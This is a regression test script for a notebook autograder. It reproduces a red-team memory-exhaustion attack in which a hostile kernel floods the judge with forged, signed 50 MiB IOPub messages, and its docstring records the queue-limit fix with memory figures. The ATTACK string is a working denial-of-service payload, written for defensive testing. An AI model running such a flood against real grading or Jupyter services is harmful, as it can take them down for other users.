"""Red-team round r66: a kernel that sends whole IOPub messages, each under MAX_KERNEL_MESSAGE_BYTES, while the
judge waits on a step (nbclient reads no IOPub then) took the grading process's memory up, charged to no envelope:
ZeroMQ's I/O thread read ahead up to its receive queue (RCVHWM, 1,000 messages a socket by default), and the relay
(`autograder/kernel/relay.py`) pumps freely while the judge's main thread waits. Each message is signed by copying a
signer that has hashed the 50 MiB already, so it costs the kernel a copy. Here the kernel queues all of them at once
(it holds them too, charged to it); sent one at a time, it would hold one, and the judge all.

The judge's sockets now read ahead at most `limits.KERNEL_MESSAGES_QUEUED` (16) whole messages: 40 of 50 MiB took
the judge to 2,301 MiB without that bound, 850 MiB with it, and 100 of them 850 MiB too (about 300 without the
attack). tests/test_relay.py runs it with smaller messages. By hand, as root, from the repository root:

    .venv/bin/python tests/scripts/iopub_backlog.py [messages] [MiB]
"""

import resource
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/, for test_judge's helpers
from test_judge import notebook  # noqa: E402

from autograder.judge import judge_notebook  # noqa: E402
from autograder.reference import reference_source  # noqa: E402

ATTACK = '''
import threading, time
kernel = get_ipython().kernel
prefix = b'{{"data": {{"text/plain": "' + b"x" * ({mib} * 2**20) + b'"}}, "metadata": {{}}'
message = kernel.session.msg("display_data", {{}}, parent=kernel.get_parent())
head = [kernel.session.pack(message["header"]), kernel.session.pack(message["parent_header"]), b"{{}}"]
signer = kernel.session.auth.copy()
for part in head + [prefix]:
    signer.update(part)
def flood():
    time.sleep(1)  # once the step is being judged: nbclient reads no IOPub then, ZeroMQ's I/O thread does
    for n in range({count}):
        suffix = b', "n": %d}}' % n
        one = signer.copy()
        one.update(suffix)
        frames = [b"kernel.display_data", b"<IDS|MSG>", one.hexdigest().encode()] + head + [prefix + suffix]
        kernel.iopub_thread.schedule(lambda frames=frames: kernel.iopub_thread.socket.send_multipart(frames))


threading.Thread(target=flood, daemon=True).start()
_softmax = softmax


def softmax(x, axis=-1):
    time.sleep(4 if not _slept else 0)  # the first case takes a while: the judge waits on its reply
    _slept.append(1)
    return _softmax(x, axis)


_slept = []
'''


def main(count=40, mib=50):
    with tempfile.TemporaryDirectory() as folder:
        path = notebook(Path(folder) / "nb.ipynb", [reference_source(["softmax"]),
                                                    ATTACK.format(count=count, mib=mib), ("grade", "softmax")])
        judge_notebook(path)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(f"{count} messages of {mib} MiB: the judge's peak resident memory {peak} MiB (about 300 without them)")


if __name__ == "__main__":
    main(*map(int, sys.argv[1:3]))
